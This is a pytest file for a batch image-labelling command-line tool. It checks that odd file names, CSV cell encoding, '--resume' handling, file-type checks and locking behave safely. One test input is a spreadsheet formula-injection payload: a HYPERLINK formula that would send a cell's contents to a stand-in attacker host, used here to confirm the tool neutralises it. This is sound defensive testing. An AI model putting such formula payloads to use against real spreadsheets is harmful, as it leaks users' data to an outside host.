"""Batch jobs under attack (issue 25): names are data (any bytes the OS gives, line breaks, cells a
spreadsheet would run), and ``--resume`` is a contract with one file (its job's header, one run at
a time, a regular file, and translate replacing only the pictures this job wrote)."""

from __future__ import annotations

import csv
import json
import os
import shutil
from pathlib import Path

import pytest
from batch_files import make_images, read_jsonl
from PIL import Image

from dlwp_models.batch.records import decode_cell, encode_cell
from dlwp_models.cli.main import main


@pytest.fixture
def use_env(batch_env, monkeypatch):
    for key, value in batch_env.vars().items():
        monkeypatch.setenv(key, value)
    return batch_env


def run(argv, capsys):
    code = main(argv)
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def header(path: Path) -> dict:
    first = path.read_text(encoding="utf-8").splitlines()[0]
    if path.suffix == ".csv":
        first = next(csv.reader([first]))[0].removeprefix("#dlwp_records ")
    return json.loads(first)


def csv_rows(path: Path) -> list[list[str]]:
    return list(csv.reader(path.read_text(encoding="utf-8").splitlines()[2:]))


# --------------------------------------------------------------------------- 8, 11. names are data

ODD_NAMES = [
    os.fsdecode(b"\xff\xfe bytes that are not UTF-8.png"),
    "line\nbreak.png",
    "carriage\rreturn.png",
    "form\ffeed.png",
    "next\x85line.png",
    "line\u2028separator.png",
    "back\\slash.png",
    '=HYPERLINK("http:evil.example?leak="&B2,"x").png',
    "+plus.png",
    "-minus.png",
    "@at.png",
    "\tleading tab.png",
    "'quoted.png",
]


@pytest.fixture
def odd_folder(tmp_path):
    folder = tmp_path / "odd"
    make_images(folder, 1)
    source = next(folder.glob("*.jpg"))
    for name in ODD_NAMES:
        shutil.copy(source, os.path.join(os.fsencode(folder), os.fsencode(name)))
    source.unlink()
    return folder


@pytest.mark.parametrize("suffix", [".jsonl", ".csv"])
def test_any_file_name_gets_its_record_and_is_matched_by_resume(use_env, odd_folder, tmp_path, suffix, capsys):
    out = tmp_path / f"labels{suffix}"
    code, _, err = run(["classify", str(odd_folder), "--model", "squeezenet1_1", "--output", str(out), "-q"], capsys)
    assert code == 0, err
    expected = sorted(str(odd_folder / name) for name in ODD_NAMES)
    if suffix == ".jsonl":
        names = [r["input"] for r in read_jsonl(out)]
    else:
        rows = csv_rows(out)
        names = [decode_cell(row[0]) for row in rows]
        assert len(out.read_text(encoding="utf-8").splitlines()) == len(ODD_NAMES) + 2  # one line per record
        for row in rows:  # nothing a spreadsheet would run
            assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
    assert sorted(names) == expected
    before = out.read_bytes()
    code, _, err = run(
        ["classify", str(odd_folder), "--model", "squeezenet1_1", "--output", str(out), "--resume", "-q"], capsys
    )
    assert code == 0 and f"0 of {len(ODD_NAMES)} failed" in err
    assert out.read_bytes() == before  # every input was matched: nothing was answered twice


@pytest.mark.parametrize(
    "text",
    [
        "plain.png",
        "=1+1",
        "'already quoted",
        "a\\u2028b",
        "\\",
        "x\ny\rz\u2029",
        os.fsdecode(b"\x80\xff"),
        "",
        "-",
        "\t",
    ],
)
def test_csv_cells_round_trip(text):
    cell = encode_cell(text)
    assert "\n" not in cell and "\r" not in cell and not cell.startswith(("=", "+", "-", "@", "\t"))
    assert decode_cell(cell) == text


# --------------------------------------------------------------------------- 9. translate --resume


def test_translate_resume_replaces_only_pictures_this_job_wrote(use_env, tmp_path, capsys):
    inputs = make_images(tmp_path / "in", 2)
    out_dir = tmp_path / "zebras"
    out_dir.mkdir()
    theirs = out_dir / f"{inputs[0].stem}_zebra.png"
    theirs.write_bytes(b"the user's own picture")
    records = tmp_path / "fresh.jsonl"
    code, _, _ = run(
        [
            "translate",
            *map(str, inputs),
            "-o",
            str(out_dir),
            "--output",
            str(records),
            "--resume",
            "--size",
            "32",
            "-q",
        ],
        capsys,
    )
    assert code == 1
    assert theirs.read_bytes() == b"the user's own picture"
    by_input = {r["input"]: r for r in read_jsonl(records)}
    assert "already exists" in by_input[str(inputs[0])]["error"] and "output" in by_input[str(inputs[1])]
    # the job's own picture, written before a crash that lost its record, is replaced on --resume
    ours = out_dir / f"{inputs[1].stem}_zebra.png"
    lines = records.read_text(encoding="utf-8").splitlines(keepends=True)
    records.write_text(lines[0], encoding="utf-8")  # only the header survived
    ours_before = ours.read_bytes()
    code, _, err = run(
        ["translate", str(inputs[1]), "-o", str(out_dir), "--output", str(records), "--resume", "--size", "32", "-q"],
        capsys,
    )
    assert code == 0, err
    assert ours.read_bytes() == ours_before and Image.open(ours).info["dlwp-job"] == header(records)["job"]


# --------------------------------------------------------------------------- 10. a regular file only


@pytest.mark.parametrize("kind", ["symlink", "fifo", "folder"])
def test_the_records_path_must_be_a_regular_file(use_env, tmp_path, kind, capsys):
    inputs = make_images(tmp_path / "in", 1)
    target = tmp_path / "elsewhere.jsonl"
    target.write_text("precious\n")
    path = tmp_path / "records.jsonl"
    if kind == "symlink":
        path.symlink_to(target)
    elif kind == "fifo":
        os.mkfifo(path)
    else:
        path.mkdir()
    for extra in ([], ["--resume"]):
        code, _, err = run(
            ["classify", str(inputs[0]), "--model", "squeezenet1_1", "--output", str(path), "-q", *extra], capsys
        )
        assert code == 1 and ("folder" in err if kind == "folder" else "regular file" in err or "link" in err), err
    assert target.read_text() == "precious\n"
    assert path.is_symlink() if kind == "symlink" else (path.is_dir() if kind == "folder" else path.is_fifo())


# --------------------------------------------------------------------------- 12. one job, one run


def test_resume_refuses_another_tasks_records_and_other_options(use_env, tmp_path, capsys):
    inputs = make_images(tmp_path / "in", 2)
    captions = tmp_path / "captions.jsonl"
    assert run(["caption", *map(str, inputs), "--output", str(captions), "-q"], capsys)[0] == 0
    code, _, err = run(
        ["classify", *map(str, inputs), "--model", "squeezenet1_1", "--output", str(captions), "--resume", "-q"], capsys
    )
    assert code == 1 and "records another job (task 'caption' there, 'classify' here" in err
    labels = tmp_path / "labels.jsonl"
    assert (
        run(
            ["classify", str(inputs[0]), "--model", "squeezenet1_1", "--topk", "3", "--output", str(labels), "-q"],
            capsys,
        )[0]
        == 0
    )
    code, _, err = run(
        [
            "classify",
            *map(str, inputs),
            "--model",
            "squeezenet1_1",
            "--topk",
            "5",
            "--output",
            str(labels),
            "--resume",
            "-q",
        ],
        capsys,
    )
    assert code == 1 and "options {'topk': 3} there, {'topk': 5} here" in err
    assert header(labels)["options"] == {"topk": 3} and len(read_jsonl(labels)) == 1


def test_two_runs_on_one_records_file_are_refused(use_env, tmp_path, capsys):
    from filelock import FileLock

    inputs = make_images(tmp_path / "in", 1)
    records = tmp_path / "labels.jsonl"
    with FileLock(f"{records}.lock"):  # another run holds it
        code, _, err = run(
            ["classify", str(inputs[0]), "--model", "squeezenet1_1", "--output", str(records), "-q"], capsys
        )
    assert code == 1 and "another run is writing" in err and not records.exists()
    assert run(["classify", str(inputs[0]), "--model", "squeezenet1_1", "--output", str(records), "-q"], capsys)[0] == 0


# --------------------------------------------------------------------------- smaller points


def test_a_binary_list_file_is_named_in_its_error(use_env, tmp_path, capsys):
    binary = tmp_path / "binary.jpg"
    make_images(tmp_path / "img", 1)[0].rename(binary)
    code, _, err = run(
        ["classify", f"@{binary}", "--model", "squeezenet1_1", "--output", str(tmp_path / "x.jsonl"), "-q"], capsys
    )
    assert code == 1 and f"the input list {str(binary)!r} is not a text file" in err


def test_a_full_disk_while_writing_records_names_the_file(tmp_path):
    from dlwp_models.batch.records import RecordWriter
    from dlwp_models.errors import ResultsFileError
    from dlwp_models.tasks.caption import Caption

    class Full:
        def write(self, text):
            raise OSError(28, "No space left on device")

        def flush(self):
            pass

    writer = RecordWriter(Full(), Caption(), csv=False, owns=False, path=tmp_path / "captions.jsonl")
    with pytest.raises(
        ResultsFileError,
        match=r"could not write results to captions.jsonl \(.*captions.jsonl\): "
        r"No space left on device; the disk is full",
    ):
        writer.write({"input": "a.jpg", "caption": "a horse"})
